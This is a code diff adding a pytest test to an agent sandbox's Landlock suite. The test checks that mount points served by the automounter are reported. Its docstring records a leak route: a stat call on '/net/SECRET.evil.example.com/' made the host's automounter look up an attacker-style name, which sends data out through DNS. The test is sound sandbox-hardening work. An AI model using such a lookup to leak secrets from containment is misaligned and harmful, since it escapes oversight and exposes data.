@@ -18,6 +18,7 @@ from adk_skills_agent.errors import SandboxError
 from adk_skills_agent.sandbox.contract import ExecutionRequest, Network, ReadOnlyMount, SandboxPolicy
 from adk_skills_agent.sandbox.local import local_sandbox
 from adk_skills_agent.sandbox.local.kernel import landlock
+from adk_skills_agent.sandbox.local.levels import landlock as level
 from adk_skills_agent.sandbox.local.levels.landlock import LandlockLevel, landlock_report
 from adk_skills_agent.sandbox.process.command import OWN_IDS
 
@@ -261,6 +262,19 @@ def test_the_problem_of_a_level_is_found_once_per_process():
 
 
 @pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None, reason="takes a capability of root away")
+def test_row_298_the_report_names_folders_that_are_mounted_from_elsewhere_when_somebody_looks(tmp_path):
+    """Seen: ``stat("/net/SECRET.evil.example.com/")`` had the host's automounter look that name up."""
+    table = tmp_path / "mounts"
+    table.write_text(
+        "/dev/vda / ext4 rw 0 0\n"
+        "-hosts /net autofs rw,fd=7,pgrp=1,timeout=300,minproto=5,maxproto=5,indirect,pipe_ino=9 0 0\n"
+        "systemd-1 /boot autofs rw,fd=8,timeout=120,minproto=5,maxproto=5,direct,pipe_ino=8 0 0\n"
+        "none /afs afs rw,dyn 0 0\n"
+    )
+    assert level._mounting_folders(str(table)) == ("/net", "/afs")
+    assert level._mounting_folders(str(tmp_path / "missing")) == ()
+
+
 def test_row_340_an_agent_that_cannot_see_what_runs_hold_has_no_such_level():
     """Seen: 1.5 GiB of files in memory with a limit of 256 MiB, ``ok``: no descriptor of the run could be read."""
     code = (
